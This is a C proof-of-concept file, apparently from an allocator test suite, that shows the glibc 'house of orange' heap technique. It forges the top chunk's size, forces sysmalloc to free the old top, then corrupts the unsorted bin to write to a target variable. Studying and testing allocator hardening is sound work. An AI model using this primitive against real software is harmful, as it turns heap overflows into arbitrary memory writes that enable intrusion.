/* Technique: house of orange (glibc < 2.26 original; its second stage,
   the unsorted bin attack, is stopped by glibc 2.29+).

   Goal: a write to a chosen address (the global target stands for
   _IO_list_all, which the original overwrites with the unsorted bin's
   address before faking a FILE).

   How: the top chunk is arranged to start 0xc00 below a page boundary
   and an overflow from the chunk below it shrinks its size to 0xc01
   (keeping the end page aligned, as sysmalloc asserts).  A request
   larger than that makes sysmalloc extend the heap elsewhere and free
   the old top (0xbe0 bytes) into the unsorted bin -- without the
   program ever calling free.  The overflow then rewrites the freed old
   top's bk to &target - 2, and the next malloc's unsorted bin removal
   writes the bin address into target (bck->fd = unsorted_chunks).  */
#include "attack.h"

size_t target = 0;

int
main (void)
{
  attack_init ("house_of_orange: top size shrunk, sysmalloc frees the old top, unsorted bin attack");
  size_t *p = (size_t *) place_before_top (0xc00, 0x18);
  if (!p)
    no_effect ("could not arrange the heap");
  size_t *top = CHUNK (p) + 4;		/* the chunk after p's 0x20 chunk */
  say ("p %p top chunk %p (size %#zx) &target %p", p, top, top[1], &target);
  if (top[1] < 0xc00 + 0x1000)
    no_effect ("the top chunk is too small to shrink (%#zx)", top[1]);
  p[3] = 0xc00 | PREV_INUSE;		/* the overflow: top's size */
  void *big = malloc (0x1000);		/* sysmalloc frees the old top */
  say ("malloc (0x1000) = %p; old top size now %#zx", big, top[1]);
  top[3] = (size_t) (&target - 2);	/* the overflow: old top's bk */
  void *q = malloc (0x10);
  say ("malloc (0x10) = %p; target = %#zx", q, target);
  if (target != 0)
    reached ("target at %p overwritten with %#zx", &target, target);
  no_effect ("target unchanged");
}
